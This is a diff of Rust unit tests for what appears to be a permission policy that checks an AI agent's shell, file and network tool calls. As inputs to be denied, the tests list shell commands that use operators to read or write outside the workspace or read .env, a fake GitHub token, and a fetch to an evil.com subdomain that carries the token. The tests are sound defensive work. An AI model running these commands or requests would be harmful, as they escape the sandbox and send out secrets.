@@ -1718,3 +1718,72 @@ fn scheme_relative_path_in_path_location() {
         "allowed"
     );
 }
+
+/// Shell strings are split by the shell at operators, not only at blanks: `cat<../x` reads
+/// `../x`, `cd ..&&cat x` walks up. (argv elements are not shell words: taken literally.)
+#[test]
+fn shell_operators_split_words() {
+    let base = Path::new("/t");
+    let set = PolicySet::compile(&opts(json!({})), ctx(base)).unwrap();
+    let fs = mem_fs("/t");
+    let tool = command_run();
+    let rows: Vec<(Value, &str)> = vec![
+        (json!({"command": "cat<../outside/secret.txt"}), "outside_root"),
+        (json!({"command": "echo x>../outside/new.txt"}), "outside_root"),
+        (json!({"command": "true;cat ../outside/secret.txt"}), "outside_root"),
+        (json!({"command": "cd ..&&cat outside/secret.txt"}), "outside_root"),
+        (json!({"command": "true||cat<link_out/secret.txt"}), "outside_root"),
+        (json!({"command": "x=$(cat<../outside/secret.txt)"}), "outside_root"),
+        (json!({"command": "cat .env|wc"}), "sensitive_path_denied"),
+        // legitimate
+        (json!({"command": "cargo build 2>&1 | tail -n 20"}), "allowed"),
+        (json!({"command": "cargo build >/dev/null 2>&1"}), "allowed"),
+        (json!({"command": "ls src > /dev/null"}), "allowed"),
+        (json!({"command": "head -c 16 /dev/urandom | od"}), "allowed"),
+        (json!({"command": "git log --format='%h;%s' -n 3"}), "allowed"),
+        (json!({"argv": ["echo", "a;../b"]}), "allowed"),
+        (json!({"argv": ["sh", "-c", "ls src"]}), "allowed"),
+    ];
+    run_table("shell operators", &set, &tool, &fs, &rows);
+}
+
+/// `host:80` pins port 80 even though it is the scheme default.
+#[test]
+fn host_with_default_port_matches_a_pinned_entry() {
+    let o = opts(json!({"network_egress_policy": "allow", "network_allowlist": ["example.com:80", "secure.test:443"]}));
+    let set = PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap();
+    assert!(set.check_host_str("example.com:80").is_ok());
+    assert!(set.check_host_str("secure.test:443").is_ok());
+    assert!(set.check_url("http://example.com/").is_ok());
+    assert!(set.check_url("http://example.com:80/").is_ok());
+    assert!(set.check_url("https://secure.test/").is_ok());
+    assert!(set.check_host_str("example.com:8080").is_err());
+    assert!(set.check_url("https://example.com/").is_err());
+}
+
+/// Secrets in denied arguments do not reach the decision's details or error.
+#[test]
+fn denial_details_are_redacted() {
+    let base = Path::new("/t");
+    let (set, fs) = (path_set(base), mem_fs("/t"));
+    let tok = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
+    for args in [
+        json!({"path": format!("../{tok}")}),
+        json!({"path": format!("/etc/password=hunter2canary/{tok}")}),
+        json!({"path": format!(".env/{tok}")}),
+    ] {
+        let d = evaluate(&set, &ToolRequest::new(&fs_read(), &args), &fs);
+        assert_eq!(d.decision, Outcome::Deny);
+        let all = format!("{} {:?} {} {:?} {:?}", d.explain, d.subject, d.details, d.error, d.error.as_ref().map(ToString::to_string));
+        assert!(!all.contains("ghp_abcdefghij"), "{all}");
+        assert!(!all.contains("hunter2canary"), "{all}");
+    }
+    let set = net_set();
+    let d = evaluate(
+        &set,
+        &ToolRequest::new(&http_fetch(), &json!({"url": format!("https://{tok}.evil.com/")})),
+        &MemFs::new(),
+    );
+    let all = format!("{} {:?} {} {:?}", d.explain, d.subject, d.details, d.error);
+    assert!(!all.contains("ghp_abcdefghij"), "{all}");
+}
